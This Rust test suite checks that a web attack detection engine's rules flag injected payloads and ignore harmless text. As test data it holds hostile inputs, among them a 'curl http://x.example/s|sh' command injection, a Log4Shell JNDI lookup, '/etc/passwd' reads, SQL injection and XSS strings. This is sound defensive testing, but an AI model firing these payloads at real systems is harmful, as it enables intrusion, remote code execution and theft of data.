//! Do the rules find what they say, and leave the rest alone?

use super::category::Severity;
use super::detection::{Detection, Note};
use super::rule_set::RuleSet;
use super::scan::Scan;
use super::signal::Signal;
use crate::exchange::head::Head;
use crate::read::target::Target;
use crate::read::{self, Field};
use proptest::prelude::*;

struct Example {
    rule: &'static str,
    target: Target,
    name: &'static str,
    matches: &'static [&'static str],
    harmless: &'static [&'static str],
}

include!(concat!(env!("OUT_DIR"), "/examples.rs"));

/// Scans an example: a request line (`GET /a?b=c`), or else a value at the first place where its rule looks.
fn scan(rules: &RuleSet, target: Target, name: &str, example: &str) -> Vec<Detection> {
    let mut scan = Scan::new();
    match example.split_once(' ') {
        Some((method @ ("GET" | "POST"), target)) if target.starts_with('/') => {
            let head = Head::new([(":method", method), (":path", target)].into_iter().collect());
            read::head(&head, &mut |field| scan.push(rules, field));
        }
        _ => scan.push(rules, Field { target, name: name.as_bytes(), value: example.as_bytes(), encoded: false }),
    }
    scan.take()
}

#[test]
fn rules_find_their_examples_and_leave_their_counter_examples_alone() {
    let rules = RuleSet::builtin();
    let mut wrong = Vec::new();
    for example in EXAMPLES {
        let found = |text: &str| -> Vec<&str> {
            scan(&rules, example.target, example.name, text).iter().map(|one| rules.rule(one.rule).id).collect()
        };
        for text in example.matches {
            if !found(text).contains(&example.rule) {
                wrong.push(format!("{} misses {text:?}, found {:?}", example.rule, found(text)));
            }
        }
        for text in example.harmless {
            if found(text).contains(&example.rule) {
                wrong.push(format!("{} takes {text:?} for an attack", example.rule));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// All detections of a request line, as `rule place value`.
fn found(target: &str, headers: &[(&str, &str)]) -> Vec<String> {
    let rules = RuleSet::builtin();
    let pseudo = [(":method", "GET"), (":path", target)];
    let head = Head::new(pseudo.iter().chain(headers).copied().collect());
    let mut scan = Scan::new();
    read::head(&head, &mut |field| scan.push(&rules, field));
    let line = |one: &Detection| format!("{} {} {}", rules.rule(one.rule).id, one.target, one.value.escape_ascii());
    scan.detections().iter().map(line).collect()
}

#[test]
fn an_act_has_the_same_value_wherever_its_address_stands() {
    let value = "1\\' union select 1,2--";
    let check = |request_target: &str, headers: &[(&str, &str)], target: &str| {
        let expected = format!("sqli.union-select {target} {value}");
        let lines = found(request_target, headers);
        assert!(lines.contains(&expected), "{lines:?}");
    };
    check("/item?id=1'+union+select+1,2--", &[], "query:id");
    check("/style.css", &[("referer", "https://shop.example/item?id=1'+union+select+1,2--")], "header:referer");
    check(
        "/style.css",
        &[("referer", "https://shop.example/item?a=b&id=1%27%20union%20select%201%2C2--")],
        "header:referer",
    );
    check("/login?next=%2Fitem%3Fid%3D1%2527%2Bunion%2Bselect%2B1%2C2--", &[], "query:next");
}

#[test]
fn one_detection_for_each_rule_and_place() {
    let twice = found("/?a=%27+or+1=1--&a=%27+or+1=1--&b=%27+or+1=1--", &[]);
    let targets: Vec<_> = twice.iter().filter(|line| line.starts_with("sqli.tautology")).collect();
    assert_eq!(targets.len(), 2, "{twice:?}");
    let many: String = (0..1000).map(|n| format!("p{n}=%27+or+1=1--&")).collect();
    let many = found(&format!("/?{many}k=%3Bcurl+http://x.example/s%7Csh"), &[]);
    assert!(many.iter().any(|line| line.starts_with("rce.")), "what fills one rule hides no other: {many:?}");
    assert!(many.len() < super::detections::DETECTIONS);
}

#[test]
fn no_request_is_so_full_that_the_application_is_not_heard() {
    let rules = RuleSet::builtin();
    let mut scan = Scan::new();
    for (number, example) in (0_u8..3).flat_map(|number| EXAMPLES.iter().map(move |example| (number, example))) {
        let name = if example.name == "x" { format!("x{number}") } else { example.name.to_owned() };
        for value in example.matches.iter().map(|value| value.as_bytes()) {
            scan.push(&rules, Field { target: example.target, name: name.as_bytes(), value, encoded: false });
        }
    }
    assert_eq!(scan.detections().len(), super::detections::DETECTIONS);
    let field = Field { target: Target::Answer, name: b"", value: b"", encoded: false };
    for name in ["a", "a", "b"].map(|name| Some(name.to_owned())) {
        scan.note_as(&rules, Signal::ApplicationEvent, field, Note { name, ..Note::default() });
    }
    assert_eq!(scan.detections().len(), super::detections::DETECTIONS + 2);
}

#[test]
fn long_values_are_told_apart_whole() {
    let value = |payload: &str| {
        let rules = RuleSet::builtin();
        let mut scan = Scan::new();
        let target = format!("/?a={}{payload}", "x".repeat(2000));
        let head = Head::new([(":method", "GET"), (":path", target.as_str())].into_iter().collect());
        read::head(&head, &mut |field| scan.push(&rules, field));
        scan.detections().first().map(|detection| detection.value.clone())
    };
    let one = value("'+union+select+1--");
    assert!(one.is_some());
    assert_eq!(one, value("'+union+select+1--"));
    assert_ne!(one, value("'+union+select+2--"));
}

#[test]
fn names_are_places_and_safe_to_print() {
    let line = &found("/?%3Cscript%3Ealert(1)%3C/script%3E=1", &[])[0];
    assert!(line.starts_with("xss.script query:{} <script>"), "a payload in a name stays out of the log: {line}");
    let raw = format!("/?a\n{}=%27+or+1=1--", "b".repeat(200));
    let targets = found(&raw, &[]);
    let mut targets = targets.iter().filter_map(|line| line.split(' ').nth(1));
    assert!(targets.all(|target| !target.contains('\n') && target.len() < 80));
}

#[test]
fn every_rule_can_be_named() {
    let rules = RuleSet::builtin();
    for rule in rules.rules() {
        assert_eq!(rules.by_id(rule.id), Some(rule));
        assert!(super::category::Category::from_slug(rule.id.split('.').next().unwrap()) == Some(rule.category));
    }
    assert_eq!(rules.by_id("none.such"), None);
}

#[test]
fn a_pasted_text_counts_for_less_and_a_lookup_does_not() {
    let rules = RuleSet::builtin();
    let worst = |value: &str| {
        let mut scan = Scan::new();
        scan.push(&rules, Field { target: Target::Json, name: b"text", value: value.as_bytes(), encoded: false });
        scan.take().iter().map(|one| one.severity).max()
    };
    let padding = "It was a dark and stormy night. ".repeat(20);
    assert_eq!(worst("<svg onload=alert(1)>"), Some(Severity::High));
    assert_eq!(worst(&format!("{padding}<svg onload=alert(1)>")), Some(Severity::Medium));
    assert_eq!(worst(&format!("{padding}${{jndi:ldap://x.example/a}}")), Some(Severity::Critical));
}

#[test]
fn when_all_places_are_taken_milder_ones_and_spare_ones_give_way() {
    let rules = RuleSet::builtin();
    let mut scan = Scan::new();
    let push = |scan: &mut Scan, number: usize, example: &Example, text: &str| {
        let name = format!("{}{number}", example.name);
        let field = Field { target: example.target, name: name.as_bytes(), value: text.as_bytes(), encoded: false };
        scan.push(&rules, field);
    };
    let is_late = |rule: &str| rule.starts_with("log4shell.");
    let mut all = EXAMPLES
        .iter()
        .filter(|one| !is_late(one.rule))
        .flat_map(|one| one.matches.iter().map(move |text| (one, *text)))
        .enumerate();
    while scan.detections().len() < super::detections::DETECTIONS {
        let Some((number, (example, text))) = all.next() else { panic!("too few examples") };
        push(&mut scan, number, example, text);
    }
    push(&mut scan, 1, &EXAMPLES[0], "five.");
    let late = EXAMPLES.iter().find(|one| is_late(one.rule)).unwrap();
    push(&mut scan, 2, late, late.matches[0]);
    assert_eq!(scan.take_unseen(), 0);
    assert_eq!(scan.detections().len(), super::detections::DETECTIONS);
    assert!(scan.detections().iter().any(|one| is_late(rules.rule(one.rule).id)));
}

/// Rules with an example that text around it hides, and why that is meant. A rule that is not here must find its examples
/// inside a text.
const HIDDEN_BY_TEXT: &[&str] = &[
    // An address, a name or a path: whoever opens it takes the whole value, and in a sentence it is only mentioned.
    "file-inclusion.remote",
    "file-inclusion.scheme",
    "file-inclusion.script",
    "file-inclusion.wrapper",
    "open-redirect.disguised",
    "open-redirect.host",
    "path-traversal.dots",
    "path-traversal.file-at-end",
    "path-traversal.system-directory",
    "path-traversal.system-file",
    "ssrf.hidden-host",
    "ssrf.local-name",
    "ssrf.loopback",
    "ssrf.metadata",
    "ssrf.odd-address",
    "xss.script-address",
    // A name that only counts alone: of a class, a setting, a table, a field, a handler.
    "code-injection.java-class",
    "code-injection.node-code",
    "code-injection.orm-lookup",
    "prototype-pollution.path",
    "sqli.system-name",
    "test.string",
    "xss.handler-name",
    "xss.other-encoding",
    // An object that its reader takes from the first byte on.
    "code-injection.coded-object",
    "code-injection.dotnet",
    "code-injection.java-object",
    // A call, a command or a statement that is the whole value; texts about programming have them in every sentence.
    "code-injection.delay",
    "code-injection.php-word",
    "graphql.alias",
    "graphql.depth",
    "graphql.schema",
    "rce.command-line",
    "rce.obfuscated",
    "session-fixation.script",
    "sqli.pasted",
    "sqli.statement",
    "sqli.time-function",
    "xss.call",
    "xss.computed-member",
    // Words decide what a command behind a separator is: `x; fold passwd and so on` is a sentence; a span in back-quotes is Markdown.
    "rce.bare-command",
    "rce.command",
    "rce.mail-command",
    "rce.substitution",
    // A piece that is open at its edge, where the statement or the filter goes on.
    "ldapi.filter",
    "ldapi.signs",
    "nosqli.code",
    "sqli.commented-quote",
    "sqli.condition",
    "sqli.fragment",
    "sqli.tail",
    "sqli.union-select",
    // A line or a message of its own.
    "mail-injection.command",
    "mail-injection.receiver",
    "request-smuggling.chunk",
    "request-smuggling.request",
];

#[test]
fn harmless_text_before_and_after_hides_no_example() {
    let rules = RuleSet::builtin();
    let mut hidden = Vec::new();
    let is_free = |one: &&Example| matches!(one.target, Target::Query | Target::Form | Target::Json | Target::Text);
    for example in EXAMPLES.iter().filter(is_free).filter(|one| !HIDDEN_BY_TEXT.contains(&one.rule)) {
        for text in example.matches.iter().filter(|text| !(text.starts_with("GET /") || text.starts_with("POST /"))) {
            for around in [("", " and so on"), ("see there: ", ""), ("", "\nand so on"), ("see there:\n", "")] {
                let value = format!("{}{text}{}", around.0, around.1);
                if scan(&rules, example.target, example.name, &value).is_empty() {
                    hidden.push(format!("{} {value:?}", example.rule));
                }
            }
        }
    }
    assert!(hidden.is_empty(), "{} {}", hidden.len(), hidden.join("\n"));
}

#[test]
fn hostile_values_cost_what_their_length_says() {
    let rules = RuleSet::builtin();
    let parts = [
        "'",
        "\"",
        "(",
        ")",
        "%25",
        "%2525",
        "${",
        "}",
        "<",
        "<a ",
        "<a x='",
        "&",
        "&#",
        "&lt",
        "\\",
        "\\u",
        "/*",
        "*/",
        "--",
        "#",
        "../",
        ";",
        "|",
        "`",
        "$(",
        "\n",
        "or ",
        "' or '",
        "union select ",
        "on=",
        "alert(",
        "http://",
        "javascript:",
        "{\"a\":",
        "[",
        "=",
        "&a=",
        "%00",
        "%c0",
        "0x",
        "for %",
        "if ",
        "(select ",
        "char(1),",
        "a/",
        ".",
        "%u0027",
        "?",
        "/?a=",
    ];
    for part in parts {
        let text = part.repeat(64 * 1024 / part.len());
        let mut scan = Scan::new();
        for target in [Target::Query, Target::Path, Target::Text, Target::Header] {
            scan.push(&rules, Field { target, name: b"x", value: text.as_bytes(), encoded: true });
        }
        let head = Head::new([("content-type", "application/json")].into_iter().collect());
        let mut body = read::Body::new(&head, 1 << 20);
        body.push(text.as_bytes(), &mut |field| scan.push(&rules, field));
        body.finish(&mut |field| scan.push(&rules, field));
        assert!(scan.detections().len() <= super::detections::DETECTIONS);
    }
}

proptest! {
    #[test]
    fn any_bytes_are_scanned_and_the_answer_is_the_same(
        value in prop::collection::vec(
            prop_oneof![any::<u8>(), prop::sample::select(b"'\"<>()%;|&$`{}/\\.-#*=+orandunionselect 01ux".to_vec())],
            0..400,
        ),
        encoded in any::<bool>(),
    ) {
        let rules = RuleSet::builtin();
        for target in Target::ALL {
            let field = Field { target: *target, name: b"x", value: &value, encoded };
            let mut scans = [Scan::new(), Scan::new()];
            scans.iter_mut().for_each(|scan| scan.push(&rules, field));
            prop_assert_eq!(scans[0].take(), scans[1].take());
            prop_assert!(scans[0].take().is_empty());
        }
    }

    #[test]
    fn harmless_text_around_a_payload_does_not_hide_it(
        before in "[a-zA-Z0-9 ,.]{0,80}",
        after in "[a-zA-Z0-9 ,.]{0,80}",
        payload in prop::sample::select(vec![
            "' UNION SELECT 1,2-- ", "<script>alert(1)</script>", "../../../../etc/passwd", "${jndi:ldap://x.example/a}",
            "; cat /etc/passwd", "$(id)", "' or 1=1-- ",
        ]),
    ) {
        let rules = RuleSet::builtin();
        let mut scan = Scan::new();
        let value = format!("{before}{payload}{after}");
        // A step up the directories is one only behind a slash or at the start.
        let joined = payload.starts_with("..") && !(before.is_empty() || before.ends_with(' '));
        scan.push(&rules, Field { target: Target::Query, name: b"x", value: value.as_bytes(), encoded: false });
        prop_assert!(joined || scan.detections().iter().any(|one| one.severity >= Severity::High), "{}", value);
    }
}
